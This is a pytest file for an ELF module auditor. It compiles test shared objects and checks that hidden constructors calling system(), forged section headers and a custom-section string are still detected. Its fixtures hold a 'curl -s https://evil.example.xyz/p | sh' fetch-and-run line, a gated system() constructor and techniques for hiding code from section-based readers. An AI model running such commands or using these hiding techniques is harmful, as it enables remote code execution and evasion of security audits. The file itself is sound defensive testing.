"""judge/elf.py reads a module's interface as the dynamic loader does, from the program headers, so that a
forged section table hides nothing. On small shared objects this test compiles with the host's gcc, and on
the host's own extension modules: an honest module reads as the section-based reader (kept below as the
oracle) read it; a module whose section headers are forged (e_shstrndx 0xfff0, e_shoff past the end) still
loads and runs its constructor, and still reads, constructor and system() included; the dynamic table is read
at PT_DYNAMIC's p_vaddr, and a relocation writing into it makes the module unreadable; a string in a custom
section is read; a truncated or garbage file is unreadable (None), without an exception."""

from __future__ import annotations

import io
import os
import random
import re
import shutil
import struct
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from elftools.elf.elffile import ELFFile

from auditor.judge.elf import Interface, read_interface

pytestmark = pytest.mark.unit

needs_gcc = pytest.mark.skipif(shutil.which("gcc") is None, reason="no C compiler on this machine")

HONEST = r"""
#include <string.h>
#include <stdio.h>
static int count(const char *s) { return (int)strlen(s); }
void *PyInit_mod(void) { static char buf[64]; snprintf(buf, sizeof buf, "%d", count("module")); return buf; }
"""

# the publisher's addition: a constructor that runs a command when the module is loaded (here only when the
# test names one, so that loading it elsewhere does nothing)
CONSTRUCTOR = HONEST + r"""
#include <stdlib.h>
__attribute__((constructor)) static void hidden(void) { const char *c = getenv("AUDITOR_ELF_TEST_RUN"); if (c) system(c); }
"""

CUSTOM_SECTION = HONEST + r"""
__attribute__((used, section(".ms_cfg"))) static const char cfg[] = "curl -s https://evil.example.xyz/p | sh";
"""

FIELDS = ("imports", "exports", "needed", "runpath", "constructors", "destructors", "execstack")


# ---------------------------------------------------------------- the oracle: the section-based reader it replaces

def section_read(data: bytes) -> Interface | None:
    """judge/elf.py's reader before it read the program headers: .dynsym, .dynamic, .gnu.version(_r) and the
    strings of .rodata, .data.rel.ro and .data, by section name (what a forged section table can hide)."""
    try:
        return _section_read(ELFFile(io.BytesIO(data)))
    except Exception:
        return None


def _section_read(elf) -> Interface:
    versions = _section_needed_versions(elf)
    versym = elf.get_section_by_name(".gnu.version")
    imports, exports = set(), set()
    dynsym = elf.get_section_by_name(".dynsym")
    if dynsym is not None:
        for i, sym in enumerate(dynsym.iter_symbols()):
            if i == 0 or not sym.name:
                continue
            ver = ""
            if versym is not None and i < versym.num_symbols():
                ndx = versym.get_symbol(i)["ndx"]
                ver = versions.get(ndx, "") if isinstance(ndx, int) else ""
            if sym["st_shndx"] == "SHN_UNDEF":
                imports.add((sym.name, ver))
            elif sym["st_info"]["bind"] in ("STB_GLOBAL", "STB_WEAK") and sym["st_other"]["visibility"] in (
                    "STV_DEFAULT", "STV_PROTECTED"):
                exports.add(sym.name)
    needed, runpath, constructors, destructors = [], [], 0, 0
    dynamic = elf.get_section_by_name(".dynamic")
    if dynamic is not None:
        for tag in dynamic.iter_tags():
            t = tag.entry.d_tag
            if t == "DT_NEEDED":
                needed.append(tag.needed)
            elif t == "DT_RPATH":
                runpath += tag.rpath.split(":")
            elif t == "DT_RUNPATH":
                runpath += tag.runpath.split(":")
            elif t == "DT_INIT":
                constructors += 1
            elif t == "DT_FINI":
                destructors += 1
            elif t == "DT_INIT_ARRAYSZ":
                constructors += tag.entry.d_val // 8
            elif t == "DT_FINI_ARRAYSZ":
                destructors += tag.entry.d_val // 8
    execstack = any(seg["p_type"] == "PT_GNU_STACK" and seg["p_flags"] & 1 for seg in elf.iter_segments())
    strings: set[bytes] = set()
    for name in (".rodata", ".data.rel.ro", ".data"):
        sec = elf.get_section_by_name(name)
        if sec is not None and sec["sh_type"] != "SHT_NOBITS" and sec["sh_size"] < 1 << 27:
            strings |= set(re.findall(rb"[\x20-\x7e]{6,}", sec.data()))
    return Interface(frozenset(imports), frozenset(exports), tuple(needed), tuple(runpath), constructors, destructors,
                     execstack, frozenset(strings))


def _section_needed_versions(elf) -> dict[int, str]:
    out: dict[int, str] = {}
    sec = elf.get_section_by_name(".gnu.version_r")
    if sec is None:
        return out
    for _, auxes in sec.iter_versions():
        for aux in auxes:
            out[aux["vna_other"]] = aux.name
    return out


# ---------------------------------------------------------------- fixtures

def build(tmp_path: Path, name: str, source: str, *flags: str) -> Path:
    c = tmp_path / f"{name}.c"
    c.write_text(source)
    out = tmp_path / f"{name}.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", str(c), "-o", str(out), *flags], check=True, capture_output=True)
    return out


def patched(path: Path, name: str, at: int, fmt: str, value: int) -> Path:
    """A copy of the module with the ELF header field at offset `at` set to `value`."""
    data = bytearray(path.read_bytes())
    struct.pack_into(fmt, data, at, value)
    out = path.with_name(name)
    out.write_bytes(bytes(data))
    return out


def forged_shstrndx(path: Path) -> Path:
    return patched(path, "forged-shstrndx.so", 0x3E, "<H", 0xFFF0)  # e_shstrndx


def forged_shoff(path: Path) -> Path:
    return patched(path, "forged-shoff.so", 0x28, "<Q", path.stat().st_size + 0x10000)  # e_shoff past the end


def loads(path: Path, run: str | None = None) -> subprocess.CompletedProcess:
    """The host's dynamic loader loads the module (in another process: a module that did not load would stop
    this one)."""
    env = {k: v for k, v in os.environ.items() if k != "AUDITOR_ELF_TEST_RUN"}
    if run is not None:
        env["AUDITOR_ELF_TEST_RUN"] = run
    return subprocess.run([sys.executable, "-c", "import ctypes, sys; ctypes.CDLL(sys.argv[1])", str(path)],
                          env=env, capture_output=True, text=True)


def same(a: Interface, b: Interface) -> list[str]:
    return [f for f in FIELDS if getattr(a, f) != getattr(b, f)]


# ---------------------------------------------------------------- (a) honest modules read as the section reader read them

@needs_gcc
def test_an_honest_module_reads_as_its_sections_say(tmp_path):
    path = build(tmp_path, "honest", HONEST, "-Wl,-rpath,$ORIGIN/../mod.libs", "-lm")
    data = path.read_bytes()
    new, old = read_interface(data), section_read(data)
    assert new is not None and old is not None
    assert same(new, old) == [], {f: (getattr(new, f), getattr(old, f)) for f in same(new, old)}
    assert old.strings <= new.strings
    assert "PyInit_mod" in new.exports and any(n == "snprintf" and v.startswith("GLIBC_") for n, v in new.imports)
    assert new.runpath == ("$ORIGIN/../mod.libs",) and "libc.so.6" in new.needed and not new.execstack


def host_modules(limit: int = 40) -> list[Path]:
    """Up to `limit` extension modules of the host's Python (its Debian packages, this venv), spread over the
    sorted list."""
    roots = [Path("/usr/lib/python3/dist-packages"), Path(sysconfig.get_paths()["platlib"])]
    found = sorted({p.resolve() for r in roots if r.is_dir() for p in r.rglob("*.so")
                    if p.is_file() and p.stat().st_size < 1 << 24})
    step = max(1, len(found) // limit)
    return found[::step][:limit]


def test_the_hosts_modules_read_as_their_sections_say():
    modules = host_modules()
    if not modules:
        pytest.skip("no extension module on this machine")
    compared, differ = 0, {}
    for path in modules:
        data = path.read_bytes()
        old = section_read(data)
        if old is None or not data.startswith(b"\x7fELF\x02\x01"):
            continue
        new = read_interface(data)
        assert new is not None, path
        if same(new, old) or not old.strings <= new.strings:
            differ[str(path)] = same(new, old) + ([] if old.strings <= new.strings else ["strings"])
        compared += 1
    assert compared, "no module the section reader reads"
    assert differ == {}


# ---------------------------------------------------------------- (b) a forged section table hides nothing

@needs_gcc
@pytest.mark.parametrize("forge", [forged_shstrndx, forged_shoff])
def test_a_constructor_behind_forged_section_headers_is_read(tmp_path, forge):
    honest = read_interface(build(tmp_path, "honest", HONEST).read_bytes())
    path = build(tmp_path, "evil", CONSTRUCTOR)
    evil = read_interface(path.read_bytes())
    forged = forge(path)
    assert honest is not None and evil is not None
    # the loader reads no section header: the forged module loads, and its constructor runs system()
    marker = tmp_path / "constructor-ran"
    p = loads(forged, f"touch {marker}")
    assert p.returncode == 0, p.stderr
    assert marker.exists()
    assert section_read(forged.read_bytes()) is None  # what the section-based reader made of it: unreadable
    got = read_interface(forged.read_bytes())
    assert got is not None
    assert "system" in {name for name, _ in got.imports}
    assert got.constructors == honest.constructors + 1
    assert same(got, evil) == []


@needs_gcc
def test_the_dynamic_table_is_read_where_the_loader_reads_it(tmp_path):
    """ld.so reads the dynamic table at PT_DYNAMIC's p_vaddr, once mapped: its p_offset may say anything."""
    path = build(tmp_path, "evil", CONSTRUCTOR)
    data = bytearray(path.read_bytes())
    phoff, phentsize, phnum = struct.unpack_from("<Q", data, 0x20)[0], *struct.unpack_from("<HH", data, 0x36)
    dynamic = [phoff + i * phentsize for i in range(phnum) if struct.unpack_from("<I", data, phoff + i * phentsize)[0] == 2]
    assert dynamic
    struct.pack_into("<Q", data, dynamic[0] + 8, 0)  # p_offset: the ELF header
    forged = tmp_path / "forged-dynamic.so"
    forged.write_bytes(bytes(data))
    assert loads(forged).returncode == 0
    got, want = read_interface(bytes(data)), read_interface(path.read_bytes())
    assert got is not None and want is not None and same(got, want) == []


@needs_gcc
def test_a_relocation_writing_into_the_dynamic_table_is_unreadable(tmp_path):
    """ld.so binds names from memory as it relocates, in order: a relocation that writes into the dynamic table
    (here DT_STRTAB's value) could have it bind other names than the file's."""
    path = build(tmp_path, "honest", HONEST)
    data = bytearray(path.read_bytes())
    elf = ELFFile(io.BytesIO(bytes(data)))
    dynamic, rela = elf.get_section_by_name(".dynamic"), elf.get_section_by_name(".rela.dyn")
    strtab = next(i for i, tag in enumerate(dynamic.iter_tags()) if tag.entry.d_tag == "DT_STRTAB")
    struct.pack_into("<Q", data, rela["sh_offset"], dynamic["sh_addr"] + 16 * strtab + 8)  # the first entry's r_offset
    assert read_interface(path.read_bytes()) is not None
    assert read_interface(bytes(data)) is None


# ---------------------------------------------------------------- (c) strings wherever the linker put them

@needs_gcc
def test_a_string_in_a_custom_section_is_read(tmp_path):
    data = build(tmp_path, "cfg", CUSTOM_SECTION).read_bytes()
    got = read_interface(data)
    assert got is not None
    assert b"curl -s https://evil.example.xyz/p | sh" in got.strings
    old = section_read(data)
    assert old is not None and b"curl -s https://evil.example.xyz/p | sh" not in old.strings  # what it missed


@needs_gcc
def test_strings_are_read_without_section_headers(tmp_path):
    path = build(tmp_path, "cfg", CUSTOM_SECTION)
    got = read_interface(forged_shoff(path).read_bytes())
    assert got is not None and b"curl -s https://evil.example.xyz/p | sh" in got.strings


# ---------------------------------------------------------------- (d) what does not parse is unreadable

def program_headers(data: bytes) -> tuple[int, int, int]:
    return struct.unpack_from("<Q", data, 0x20)[0], *struct.unpack_from("<HH", data, 0x36)


@needs_gcc
def test_a_truncated_or_garbage_file_is_unreadable(tmp_path):
    data = build(tmp_path, "honest", HONEST).read_bytes()
    phoff, phentsize, phnum = program_headers(data)
    for cut in (4, 16, 63, 64, phoff + phentsize * phnum - 1, phoff + phentsize * phnum, 4096):
        assert read_interface(data[:cut]) is None, cut
    rand = random.Random(7)
    for n in (64, 1000, 100_000):
        assert read_interface(b"\x7fELF\x02\x01\x01" + bytes(rand.randrange(256) for _ in range(n))) is None
    assert read_interface(b"\x7fELF" + b"\0" * 60) is None
    thirty_two = bytearray(data)
    thirty_two[4] = 1  # ELFCLASS32: not read
    assert read_interface(bytes(thirty_two)) is None


@needs_gcc
@pytest.mark.parametrize("garbage", ["table", "phentsize", "phoff", "phnum", "dynamic-vaddr"])
def test_garbage_program_headers_are_unreadable(tmp_path, garbage):
    data = bytearray(build(tmp_path, "honest", HONEST).read_bytes())
    phoff, phentsize, phnum = program_headers(data)
    if garbage == "table":
        data[phoff:phoff + phentsize * phnum] = b"\xff" * (phentsize * phnum)
    elif garbage == "phentsize":
        struct.pack_into("<H", data, 0x36, 0x20)
    elif garbage == "phoff":
        struct.pack_into("<Q", data, 0x20, len(data) + 8)
    elif garbage == "phnum":
        struct.pack_into("<H", data, 0x38, 0xFFFF)
    else:  # PT_DYNAMIC's p_vaddr outside every PT_LOAD
        dynamic = next(phoff + i * phentsize for i in range(phnum) if struct.unpack_from("<I", data, phoff + i * phentsize)[0] == 2)
        struct.pack_into("<Q", data, dynamic + 16, 1 << 60)
    assert read_interface(bytes(data)) is None
